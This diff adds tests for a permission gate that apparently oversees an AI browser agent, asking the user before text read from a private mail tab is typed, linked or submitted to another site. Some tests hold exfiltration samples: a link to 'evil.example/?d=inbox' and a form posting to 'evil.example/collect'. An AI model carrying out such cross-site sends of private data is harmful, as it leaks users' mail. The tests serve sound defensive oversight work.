@@ -765,3 +765,142 @@ describe('the gate in an unattended run (a scheduled skill: Conversation.granted
     await unpinned;
   });
 });
+
+describe('the gate, third line: acting on pages is sending too (issue 38)', () => {
+  const TYPE: ToolAnnotations = { readOnly: false, destructive: false, openWorld: false, pages: true, target: (i: { tab_id?: number }) => ({ tabId: i.tab_id }) };
+  const READ_MAIL = () => call('read_tab', READ_TAB, { tab_id: 3 });
+  const ok = { ok: true, output: { url: 'https://mail.example/inbox' } } as const;
+  /** A page action's words: what it carries where, as `plugins/page-actions/words.ts` says it. */
+  const carrying = (carries: { text?: string; to?: string[] }, hidden?: string[]) => async () => ({ words: { key: 'approval.noSite' as const }, carries, ...(hidden ? { hidden } : {}) });
+  /** Reads the mail tab (a private read of mail.example) in conversation c1. */
+  async function readMail(gate: ApprovalGate, userWords: string[] = []) {
+    gate.beginRun('c1', { trusted: false, calls: [], userWords });
+    gate.record(READ_MAIL(), { site: 'https://mail.example', tab: { id: 3, origin: 'https://mail.example' }, localReads: [] }, ok);
+  }
+
+  it('typing text into another site\'s page after a private read asks as outbound; Always allow there does not cover it', async () => {
+    const { gate } = makeGate(memoryPermissions([{ tool: 'fill', site: 'https://news.example', decision: 'allow', at: 1 }]));
+    await readMail(gate);
+    // The user is on news.example (tab 1): typing there sends the text to news.example.
+    const pending = gate.check(call('fill', TYPE, { ref: 'e1', text: 'Subject: your invoice 4411' }, { words: carrying({ text: 'Subject: your invoice 4411' }) }));
+    const ask = await nextAsk(gate);
+    expect(ask).toMatchObject({ reason: 'outbound', sink: 'https://news.example', sources: ['https://mail.example'], scope: 'call' });
+    gate.answer(ask.id, 'once');
+    await expect(pending).resolves.toMatchObject({ ok: true });
+    // Without the read, the remembered Always allow covers typing there as before.
+    await expect(gate.check(call('fill', TYPE, { ref: 'e1', text: 'x' }, { conversationId: 'c2', words: carrying({ text: 'x' }) }))).resolves.toMatchObject({ ok: true });
+  });
+
+  it('the user\'s own words typed into a page carry nothing read: the usual ask, not the outbound one', async () => {
+    const { gate } = makeGate(memoryPermissions([{ tool: 'fill', site: 'https://news.example', decision: 'allow', at: 1 }]));
+    await readMail(gate, ['Search news.example for "flights to Paris", please.']);
+    await expect(gate.check(call('fill', TYPE, { ref: 'e1', text: 'Flights to  Paris' }, { words: carrying({ text: 'Flights to  Paris' }) }))).resolves.toMatchObject({ ok: true });
+    // A piece of a word is not the user's word; the mail's text is not either.
+    const inside = gate.check(call('fill', TYPE, { ref: 'e1', text: 'light' }, { words: carrying({ text: 'light' }) }));
+    expect((await nextAsk(gate)).reason).toBe('outbound');
+    gate.answer(gate.list()[0]!.id, 'deny');
+    await inside;
+  });
+
+  it('typing back into the site that was read stays silent; a link or form to another site from there asks', async () => {
+    const { gate } = makeGate(memoryPermissions([{ tool: 'fill', site: 'https://mail.example', decision: 'allow', at: 1 }, { tool: 'click', site: 'https://mail.example', decision: 'allow', at: 1 }]), { id: 3 });
+    await readMail(gate);
+    await expect(gate.check(call('fill', TYPE, { ref: 'e1', text: 'reply text' }, { words: carrying({ text: 'reply text' }) }))).resolves.toMatchObject({ ok: true });
+    await expect(gate.check(call('click', TYPE, { ref: 'e2' }, { words: carrying({ to: ['https://mail.example/next'] }) }))).resolves.toMatchObject({ ok: true });
+    const link = gate.check(call('click', TYPE, { ref: 'e3' }, { words: carrying({ to: ['https://evil.example/?d=inbox'] }) }));
+    const ask = await nextAsk(gate);
+    expect(ask).toMatchObject({ reason: 'outbound', sink: 'https://evil.example', sources: ['https://mail.example'] });
+    gate.answer(ask.id, 'deny');
+    await expect(link).resolves.toMatchObject({ ok: false, result: { code: 'denied' } });
+    // A form's destination is judged even when the typed text itself stays on the page.
+    const form = gate.check(call('fill', TYPE, { ref: 'e1', text: 'x', submit: true }, { words: carrying({ text: 'x', to: ['https://evil.example/collect'] }) }));
+    expect(await nextAsk(gate)).toMatchObject({ reason: 'outbound', sink: 'https://evil.example' });
+    gate.answer(gate.list()[0]!.id, 'once');
+    await expect(form).resolves.toMatchObject({ ok: true });
+  });
+
+  it('the page changing where a link goes between the card and the yes refuses the call', async () => {
+    const { gate } = makeGate(undefined, { id: 3 });
+    await readMail(gate);
+    let to = 'https://news.example/a';
+    const words = async () => ({ words: { key: 'approval.noSite' as const }, carries: { to: [to] } });
+    const pending = gate.check(call('click', TYPE, { ref: 'e3' }, { words }));
+    const ask = await nextAsk(gate);
+    to = 'https://evil.example/?d=inbox';
+    gate.answer(ask.id, 'once');
+    await expect(pending).resolves.toMatchObject({ ok: false, result: { code: 'denied', error: expect.stringMatching(/changed while the user was asked/) } });
+  });
+
+  it('a password shows as dots everywhere on the card, its arguments included', async () => {
+    const { gate } = makeGate(undefined, { id: 3 });
+    const pending = gate.check(call('fill', TYPE, { ref: 'e4', text: 'hunter2' }, { words: async () => ({ words: { key: 'approval.noSite' as const }, sensitive: true, hidden: ['text'] }) }));
+    const ask = await nextAsk(gate);
+    expect(ask.arguments).not.toContain('hunter2');
+    expect(JSON.parse(ask.arguments)).toEqual({ ref: 'e4', text: '••••••••' });
+    gate.answer(ask.id, 'deny');
+    await pending;
+  });
+
+  it('a screenshot counts every site its frames show as read, after a worker restart too', async () => {
+    const SHOT: ToolAnnotations = { readOnly: true, destructive: false, openWorld: false, pages: true, privateData: true, target: (i: { tab_id?: number }) => ({ tabId: i.tab_id }) };
+    const output = { url: 'https://news.example/today', origins: ['https://mail.example', 'https://news.example', 'http://192.168.1.1'] };
+    const { gate } = makeGate();
+    gate.beginRun('c1', { trusted: false, calls: [] });
+    const shot = call('screenshot', SHOT, {});
+    const verdict = await gate.check(shot);
+    gate.record(shot, verdict.ok ? verdict.note : undefined, { ok: true, output });
+    // A fetch to the framed site asks: news.example's screenshot showed mail.example and the router.
+    const pending = gate.check(call('fetch', FETCH, { url: 'https://mail.example/x' }));
+    expect(await nextAsk(gate)).toMatchObject({ reason: 'outbound', sources: ['https://news.example', 'http://192.168.1.1'] });
+    gate.answer(gate.list()[0]!.id, 'deny');
+    await pending;
+    // Rebuilt from the history alone (a new state: another conversation id).
+    gate.beginRun('c9', { trusted: false, calls: [{ spec: spec('screenshot', SHOT), input: {}, fromPage: false, output }] });
+    const again = gate.check(call('fetch', FETCH, { url: 'https://news.example/x' }, { conversationId: 'c9' }));
+    expect((await nextAsk(gate)).sources).toEqual(['https://mail.example', 'http://192.168.1.1']);
+    gate.answer(gate.list()[0]!.id, 'deny');
+    await again;
+  });
+
+  it('a pause holds every call that touches the tab, whatever its tool; the call says it waited; Stop ends the wait', async () => {
+    const { gate } = makeGate(memoryPermissions([{ tool: 'run_script', site: 'https://bank.example', decision: 'allow', at: 1 }]));
+    let resume!: () => void;
+    let held: Promise<void> | undefined = new Promise<void>((r) => (resume = r));
+    gate.addHold({ active: () => held !== undefined, until: (tabId) => (tabId === 2 ? held : undefined) });
+    let done = false;
+    const script = gate.check(call('run_script', SCRIPT, { tab_id: 2, code: '1' })).then((v) => ((done = true), v));
+    // Another tab is not held.
+    await expect(gate.check(call('read_tab', READ_TAB, { tab_id: 1 }))).resolves.toMatchObject({ ok: true });
+    await new Promise((r) => setTimeout(r, 20));
+    expect(done).toBe(false);
+    held = undefined;
+    resume();
+    await expect(script).resolves.toMatchObject({ ok: true, notice: expect.stringMatching(/user had this tab/) });
+    // Stopped while held: not run.
+    held = new Promise<void>(() => undefined);
+    const controller = new AbortController();
+    const stopped = gate.check(call('read_tab', READ_TAB, { tab_id: 2 }), controller.signal);
+    controller.abort();
+    await expect(stopped).resolves.toMatchObject({ ok: false, result: { code: 'aborted', error: expect.stringMatching(/while the user had the tab/) } });
+  });
+
+  it('a scheduled run handed over to the model: the grants ahead hold for nothing more; its redirect hops are judged like direct reads', async () => {
+    const { gate } = makeGate();
+    gate.beginRun('c1', { trusted: false, calls: [], grantedAhead: [{ tool: 'run_script', site: 'https://bank.example' }, { tool: 'fetch', site: 'https://news.example' }] });
+    await expect(gate.check(call('run_script', SCRIPT, { tab_id: 2, code: '1' }))).resolves.toMatchObject({ ok: true });
+    // A hop of a granted fetch to a site not granted asks, as a direct read would.
+    const fetchCall = call('fetch', FETCH, { url: 'https://news.example/r' });
+    const passed = await gate.check(fetchCall);
+    expect(passed.ok).toBe(true);
+    const hop = gate.reach(fetchCall, passed.ok ? passed.note : undefined, 'https://other.example/page', { redirectFrom: 'https://news.example/r' });
+    expect(await nextAsk(gate)).toMatchObject({ reason: 'unattended', site: 'https://other.example', redirectFrom: 'https://news.example/r' });
+    gate.answer(gate.list()[0]!.id, 'once');
+    await expect(hop).resolves.toEqual({ ok: true });
+    await expect(gate.reach(fetchCall, passed.ok ? passed.note : undefined, 'https://news.example/again', {})).resolves.toEqual({ ok: true });
+    gate.withdrawGrantsAhead('c1');
+    const after = gate.check(call('run_script', SCRIPT, { tab_id: 2, code: '1' }));
+    expect((await nextAsk(gate)).reason).toBe('destructive');
+    gate.answer(gate.list()[0]!.id, 'deny');
+    await after;
+  });
+});
